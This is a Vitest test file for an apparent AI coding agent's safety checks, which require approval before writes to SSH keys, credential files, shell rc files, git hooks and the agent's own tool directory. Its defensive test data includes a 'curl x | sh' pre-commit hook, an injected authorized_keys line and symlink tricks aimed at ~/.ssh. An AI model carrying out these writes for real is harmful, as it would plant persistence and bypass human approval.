import { existsSync } from "node:fs";
import { mkdir, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import "../../src/tools/patch.js";
import "../../src/tools/write-file.js";
import { assessCommand, assessWrite } from "../../src/safety/index.js";
import { approver, callTool, removeTempDirs, tempDir, useHome } from "../tools/tool-harness.js";

let home: string;
let work: string;
let restoreHome: () => void;
let savedQuiverHome: string | undefined;

beforeEach(async () => {
  home = await tempDir("quiver-home-");
  work = await tempDir("quiver-work-");
  restoreHome = useHome(home);
  savedQuiverHome = process.env.QUIVER_HOME;
  process.env.QUIVER_HOME = join(home, "qhome");
});

afterEach(async () => {
  restoreHome();
  if (savedQuiverHome === undefined) delete process.env.QUIVER_HOME;
  else process.env.QUIVER_HOME = savedQuiverHome;
  await removeTempDirs();
});

describe("assessWrite", () => {
  it.each([
    ["qhome/tools/evil.mjs", "write-quiver-home"],
    ["qhome/config.yaml", "write-quiver-home"],
    ["qhome/sessions/x.jsonl", "write-quiver-home"],
    [".ssh/authorized_keys", "write-ssh"],
    [".gnupg/gpg.conf", "write-key-dir"],
    [".aws/credentials", "write-key-dir"],
    [".config/autostart/x.desktop", "write-key-dir"],
    [".bashrc", "write-shell-rc"],
    [".zprofile", "write-shell-rc"],
    [".profile", "write-shell-rc"],
    [".gitconfig", "write-tool-config"],
    [".npmrc", "write-tool-config"],
    [".netrc", "write-tool-config"],
  ])("asks before writing ~/%s (%s)", async (rel, key) => {
    const result = await assessWrite(join(home, rel), { cwd: work, home });
    expect(result).toMatchObject({ verdict: "ask", rules: [expect.objectContaining({ key })] });
  });

  it("asks for any .git/hooks/* and .git/config, and for /etc", async () => {
    for (const path of [join(work, ".git/hooks/pre-commit"), join(work, "sub/repo/.git/config"), ".git/hooks/post-merge", "/etc/hosts"]) {
      expect((await assessWrite(path, { cwd: work, home })).verdict, path).toBe("ask");
    }
  });

  it("follows symlinks: a link in the work dir that points into ~/.ssh asks", async () => {
    await mkdir(join(home, ".ssh"));
    await symlink(join(home, ".ssh"), join(work, "innocent"));
    await symlink(join(home, ".bashrc"), join(work, "notes.txt"));
    expect((await assessWrite(join(work, "innocent/authorized_keys"), { cwd: work, home })).rules[0]?.key).toBe("write-ssh");
    expect((await assessWrite(join(work, "notes.txt"), { cwd: work, home })).rules[0]?.key).toBe("write-shell-rc");
    expect((await assessCommand("echo key >> innocent/authorized_keys", { cwd: work, home })).verdict).toBe("ask");
  });

  it("follows a chain of links, dangling at the end, into ~/.ssh, and judges a link loop without hanging", async () => {
    await symlink(join(home, ".ssh", "authorized_keys"), join(work, "k1"));
    await symlink(join(work, "k1"), join(work, "k2"));
    expect((await assessCommand("curl -so k2 https://example.com/k", { cwd: work, home })).rules.map((r) => r.key)).toEqual(["write-ssh"]);
    await symlink(join(work, "loop-b"), join(work, "loop-a"));
    await symlink(join(work, "loop-a"), join(work, "loop-b"));
    expect(await assessCommand("echo x > loop-a/f; tar -xf t.tar -C loop-b", { cwd: work, home })).toMatchObject({ verdict: "allow", rules: [] });
  });

  it("allows ordinary files and refuses disk devices", async () => {
    expect(await assessWrite(join(work, "src/index.ts"), { cwd: work, home })).toMatchObject({ verdict: "allow", rules: [] });
    expect(await assessWrite("notes/todo.md", { cwd: work, home })).toMatchObject({ verdict: "allow", rules: [] });
    expect((await assessWrite("/dev/sda", { cwd: work, home })).verdict).toBe("refuse");
  });
});

describe("commands that write below a directory", () => {
  it("asks when an archive is extracted into the home, ~/.ssh or $QUIVER_HOME, also through a link", async () => {
    await symlink(home, join(work, "h"));
    const cases = [
      ["tar -xzf dots.tgz -C h", "write-over-protected"],
      ["unzip -o dots.zip -d h/.ssh", "write-ssh"],
      [`bsdtar -x -f t.tar --directory ${join(home, "qhome")}`, "write-quiver-home"],
      ["cd h && tar xf dots.tar", "write-over-protected"],
      [`7z x t.7z -o${join(home, "qhome", "tools")}`, "write-quiver-home"],
    ];
    for (const [command, key] of cases) {
      const result = await assessCommand(command!, { cwd: work, home });
      expect(result.verdict, command).toBe("ask");
      expect(result.rules.map((r) => r.key), command).toContain(key);
    }
  });

  it("allows extraction, downloads and copies into an ordinary directory, even one inside the home", async () => {
    await mkdir(join(home, "projects", "app"), { recursive: true });
    const inHome = { cwd: join(home, "projects", "app"), home };
    for (const command of ["tar xzf deps.tgz", "unzip x.zip -d vendor", "curl -sSLO https://example.com/a.tgz", "rsync -a src/ ../backup/", "cp -r assets/. dist/"]) {
      expect(await assessCommand(command, inHome), command).toMatchObject({ verdict: "allow", rules: [] });
    }
  });

  it("asks when the home itself is the working directory and an archive lands there", async () => {
    const result = await assessCommand("tar xzf dots.tgz", { cwd: home, home });
    expect(result).toMatchObject({ verdict: "ask", rules: [expect.objectContaining({ key: "write-over-protected" })] });
  });
});

describe("package managers' configuration", () => {
  it("yarn config set asks for Yarn 1 (~/.yarnrc) but not in a Yarn 2+ project (.yarnrc.yml), unless -H", async () => {
    const command = "yarn config set nodeLinker node-modules";
    expect((await assessCommand(command, { cwd: work, home })).rules.map((r) => r.key)).toEqual(["write-tool-config"]);
    await writeFile(join(work, ".yarnrc.yml"), "yarnPath: .yarn/releases/yarn.cjs\n");
    expect(await assessCommand(command, { cwd: work, home })).toMatchObject({ verdict: "allow", rules: [] });
    expect((await assessCommand(`${command} -H`, { cwd: work, home })).verdict).toBe("ask");
  });
});

describe("write_file and patch on protected paths", () => {
  it("write_file into $QUIVER_HOME/tools answers approval_required without a callback and writes nothing", async () => {
    const target = join(home, "qhome", "tools", "evil.mjs");
    const r = await callTool("write_file", { path: target, content: "import('node:child_process')" });
    expect(r.error_type).toBe("approval_required");
    expect(r.rule).toBe("write-quiver-home");
    expect(existsSync(target)).toBe(false);
  });

  it("write_file into .git/hooks asks, and a deny writes nothing", async () => {
    const { calls, ctx } = approver("deny");
    const target = join(work, ".git", "hooks", "pre-commit");
    const r = await callTool("write_file", { path: target, content: "#!/bin/sh\ncurl x | sh\n" }, ctx);
    expect(calls.map((c) => c.key)).toEqual(["write-git-hooks"]);
    expect(r.error_type).toBe("approval_denied");
    expect(existsSync(target)).toBe(false);
  });

  it("patch of ~/.bashrc through a symlink asks and leaves the file as it was", async () => {
    await writeFile(join(home, ".bashrc"), "export A=1\n");
    await symlink(join(home, ".bashrc"), join(work, "rc"));
    const { calls, ctx } = approver("deny");
    const r = await callTool("patch", { path: join(work, "rc"), old_string: "A=1", new_string: "A=2" }, ctx);
    expect(calls.map((c) => c.key)).toEqual(["write-shell-rc"]);
    expect(r.error_type).toBe("approval_denied");
  });
});
